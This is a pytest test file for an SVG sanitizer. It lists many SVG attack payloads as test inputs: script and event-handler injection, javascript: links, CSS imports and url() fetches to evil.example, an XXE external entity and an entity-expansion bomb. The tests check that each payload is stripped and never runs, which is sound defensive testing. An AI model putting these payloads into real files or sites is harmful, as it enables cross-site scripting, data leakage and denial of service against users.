"""Drawings: what only draws stays as it is, what runs or asks elsewhere goes and is named."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from kamhandbook.pictures import svg
from kamhandbook.pictures.svg_plain import plain
from tests.media.files import SECRET, with_metadata
from tests.publish.web import served
from tests.sample import ROOT

if TYPE_CHECKING:  # only tests with a browser need it
    from playwright.sync_api import Browser

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
RUN = "window.pwned=1"
RECT = '<rect width="80" height="40" fill="#0b4f5c"/>'
NESTED = base64.b64encode(f'<svg {NS} onload="{RUN}"><script>{RUN}</script></svg>'.encode())

ATTACKS = {
    "script": f"<script>{RUN}</script>",
    "script elsewhere": '<script xlink:href="http://evil.example/a.js"/>',
    "load": f'<g onload="{RUN}"/>',
    "error": f'<image href="x.png" width="9" height="9" onerror="{RUN}"/>',
    "import": "<style>@import url(http://evil.example/a.css);</style>",
    "import in quotes": "<style>@import 'http://evil.example/a.css';rect{fill:red}</style>",
    "import escaped": r"<style>@\69mport 'http://evil.example/a.css';</style>",
    "import behind a remark": "<style>@imp/**/ort 'http://evil.example/a';@import/**/'//evil.example/b';</style>",
    "address in a style": "<style>rect{fill:url(http://evil.example/a.svg#b)}</style>",
    "address escaped": r'<rect style="fill:u\72l(http://evil.example/a#b)" width="9" height="9"/>',
    "address in an attribute": '<rect filter="url(//evil.example/a#b)" width="9" height="9"/>',
    "a set of pictures": "<style>svg{background:image-set('http://evil.example/a.png' 1x)}</style>",
    "a font": "<style>@font-face{font-family:x;src:url('http://evil.example/a.woff')}"
    "text{font-family:x}</style><text y='20'>x</text>",
    "picture": '<image xlink:href="http://evil.example/p.png" width="9" height="9"/>',
    "picture without a scheme": '<image href="//evil.example/p.png" width="9" height="9"/>',
    "use": '<use href="http://evil.example/a.svg#b"/>',
    "filter": '<filter id="f"><feImage href="http://evil.example/p.png"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/>',
    "foreign": '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/"/></foreignObject>',
    "html": f'<b xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:{RUN}"/></b>',
    "link": f'<a xlink:href="javascript:{RUN}"><rect width="9" height="9"/></a>',
    "animated link": f'<a><animate attributeName="href" values="javascript:{RUN}"/></a>',
    "set": f'<set attributeName="onmouseover" to="{RUN}"/>',
    "handler": f'<handler xmlns="http://www.w3.org/2001/xml-events">{RUN}</handler>',
    "nested": f'<image href="data:image/svg+xml;base64,{NESTED.decode()}" width="9" height="9"/>',
}
HEADS = {
    "style sheet": '<?xml-stylesheet href="http://evil.example/a.css"?>',
    "entity": "<!DOCTYPE svg [<!ENTITY a SYSTEM 'http://evil.example/a'>]>",
}
# As these programs write them, with names where they put names.
HARMLESS = ("illustrator", "inkscape", "figma")


def drawing(inside: str, head: str = "") -> bytes:
    return f'{head}<svg {NS} width="80" height="40">{RECT}{inside}</svg>'.encode()


def drawn_by(program: str) -> bytes:
    file = Path(__file__).parent / "drawings" / f"{program}.svg"
    inside = base64.b64encode(with_metadata("png"))
    return file.read_bytes().replace(b"PICTURE", inside)


def made(data: bytes) -> svg.Drawing:
    found = svg.cleaned(data)
    assert found is not None
    return found


@pytest.mark.parametrize("name", ATTACKS)
def test_what_runs_or_asks_elsewhere_goes_and_is_named(name: str) -> None:
    found = made(drawing(ATTACKS[name]))
    assert b"evil" not in found.content and b"pwned" not in found.content
    assert found.removed or "remark" in name
    assert b'fill="#0b4f5c"' in found.content


def test_nothing_runs_when_a_drawing_is_opened_by_its_own_address(
    browser: Browser, tmp_path: Path
) -> None:
    for number, inside in enumerate(ATTACKS.values()):
        content = made(drawing(inside)).content
        (tmp_path / f"{number}.svg").write_bytes(content)
    page, asked = browser.new_page(), []
    page.on("request", lambda request: asked.append(request.url))
    with served(tmp_path, policy="") as web:
        for number in range(len(ATTACKS)):
            for address in (f"{web}{number}.svg", (tmp_path / f"{number}.svg").as_uri()):
                page.goto(address)
                assert page.evaluate("window.pwned") is None
    page.close()
    assert [url for url in asked if "evil" in url] == []


@pytest.mark.parametrize("head", HEADS)
def test_nothing_is_fetched_for_the_head_of_a_file(head: str) -> None:
    found = svg.cleaned(drawing("", HEADS[head]))
    assert found is None or b"evil" not in found.content


def test_entities_that_grow_are_refused() -> None:
    grow = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    bomb = f'<!DOCTYPE svg [<!ENTITY e0 "aaaaaaaaaa">{grow}]>'
    assert svg.cleaned(drawing("<text>&e11;</text>", bomb)) is None


@pytest.mark.parametrize("program", HARMLESS)
def test_what_programs_draw_looks_the_same(browser: Browser, tmp_path: Path, program: str) -> None:
    data = drawn_by(program)
    found = made(data)
    assert found.removed == ()
    assert SECRET.encode() not in found.content
    page = browser.new_page(viewport={"width": 220, "height": 120})
    seen = []
    for name, content in (("before.svg", data), ("after.svg", found.content)):
        (tmp_path / name).write_bytes(content)
        html = tmp_path / f"{name}.html"
        html.write_text(f'<img src="{name}" width="200" height="100">', encoding="utf-8")
        page.goto(html.as_uri())
        seen.append(page.screenshot())
    page.close()
    assert seen[0] == seen[1]
    assert len(set(seen[0])) > 50  # something was drawn


def test_what_has_nothing_to_hide_is_the_same_bytes() -> None:
    data = drawing('<g id="a"><text x="1" y="9">R&amp;D</text></g>')
    assert made(data).content == data


def test_the_sample_s_logos_lose_nothing_that_is_seen() -> None:
    for file in sorted((ROOT / "themes/nordkamp").glob("*.svg")):
        found = made(file.read_bytes())
        assert found.removed == () and found.content.count(b"<path") == file.read_bytes().count(
            b"<path"
        )


@pytest.mark.parametrize("data", [b"<svg", b"<svg xmlns='x'/>", b"<html><svg/></html>", b"<a/>"])
def test_what_is_no_drawing_is_none(data: bytes) -> None:
    assert svg.cleaned(data) is None


@pytest.mark.parametrize(
    ("inside", "left"),
    [
        (f"<title>{SECRET}</title>", ""),
        (f"<g><desc>{SECRET}</desc >a</g>", "<g>a</g>"),
        ("<title/>", ""),
        ('<g transform="translate(1, 2)" fill="url(#a)"/>', None),
    ],
)
def test_plain_drawings_lose_their_titles_only(inside: str, left: str | None) -> None:
    rest = inside if left is None else left
    assert plain(drawing(inside)) == drawing(rest)
    assert b"<title" not in made(drawing(inside)).content


@pytest.mark.parametrize("inside", ATTACKS.values())
def test_no_attack_is_plain(inside: str) -> None:
    assert plain(drawing(inside)) is None


@pytest.mark.parametrize("head", ["<!-- x -->", "<?xml version='1.0'?>", *HEADS.values()])
def test_what_has_a_head_is_not_plain(head: str) -> None:
    assert plain(drawing("", head)) is None
    assert plain(drawing("") + head.encode()) is None


def test_an_escape_that_stands_for_no_character_leaves_a_sign_of_its_own() -> None:
    for escape in ("\\0", "\\d800", "\\110000"):
        style = f"a{{fill:{escape} red}} b{{c:url(http://x.example/y)}}"
        drawing = svg.cleaned(
            f'<svg xmlns="http://www.w3.org/2000/svg"><style>{style}</style></svg>'.encode()
        )
        assert drawing is not None and "\ufffd" in drawing.content.decode()
        assert drawing.removed == ("address",)
